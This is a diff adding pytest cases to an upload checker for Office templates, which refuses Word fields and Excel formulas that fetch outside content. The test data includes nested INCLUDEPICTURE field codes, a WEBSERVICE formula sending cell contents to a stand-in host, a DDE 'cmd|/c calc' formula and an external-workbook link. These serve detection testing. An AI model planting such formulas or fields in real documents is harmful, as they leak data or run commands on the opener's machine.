@@ -5,16 +5,18 @@ from typing import Any
 from zipfile import ZIP_DEFLATED, ZipFile
 
 import pytest
+from openpyxl import load_workbook
+from openpyxl.workbook.defined_name import DefinedName
 
 from ledgers.processes import ChildTooSlowError, ended_child
 from papers import gate
 from papers.filling import package, parent
 from papers.filling.parent import read_names
-from papers.filling.sheet import sheet_names
+from papers.filling.sheet import FETCHES, sheet_names
 from papers.filling.syntax import TemplateRefused
 from papers.filling.word import word_names
 from papers.gate import check_template
-from tests.papers.opened import document, with_part, workbook
+from tests.papers.opened import document, saved, with_part, workbook
 
 RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
@@ -112,6 +114,45 @@ def test_a_field_that_reads_something_else_is_refused(code: str) -> None:
         f"文件里有打开时会读取外部内容的域“{code.split()[0]}”。"
         "请选中它，按 Ctrl+Shift+F9 变成普通文字，另存后再上传。"
     )
+
+
+def run(piece: str) -> str:
+    return f"<w:r>{piece}</w:r>"
+
+
+def test_a_field_within_another_is_looked_at_too() -> None:
+    begin, end = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "end"))
+    split = run("<w:instrText>INCLUDE</w:instrText>") + run(
+        "<w:instrText>PICTURE http://192.0.2.1/x</w:instrText>"
+    )
+    nested = f"{begin}{run('<w:instrText>QUOTE </w:instrText>')}{begin}{split}{end}{end}<w:r><w:t>"
+    content = with_part(document("地{{ 地点 }}"), "word/document.xml", old=b"<w:r><w:t>", new=nested.encode())
+    assert refusal(content).startswith("文件里有打开时会读取外部内容的域“INCLUDEPICTURE”。")
+
+
+def test_a_page_pasted_into_the_document_is_refused() -> None:
+    relation = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELATIONS}/aFChunk" Target="page.html"/></Relationships>'
+    )
+    content = with_part(GOOD, "word/_rels/settings.xml.rels", relation.encode())
+    assert refusal(content) == package.PASTED
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "=cmd|'/c calc'!A0", "='http://192.0.2.1/[x.xlsx]a'!A1"],
+)
+def test_a_formula_that_asks_somebody_else_is_refused(formula: str) -> None:
+    content = workbook(["{{ 地点 }}"], [formula])
+    assert refusal(content, "表.xlsx") == FETCHES.format(formula=formula[:24])
+    named = load_workbook(BytesIO(BOOK))
+    named.defined_names["外面"] = DefinedName("外面", attr_text=formula.removeprefix("="))
+    assert refusal(saved(named), "表.xlsx") == FETCHES.format(formula=formula[1:25])
+
+
+def test_a_formula_that_only_counts_or_joins_is_fine() -> None:
+    assert read_names(workbook(["{{ 地点 }}"], ['=A1&"|"&SUM(B1:B3)']), "xlsx") == ["地点"]
 
 
 def test_a_page_number_and_a_link_are_fine() -> None:
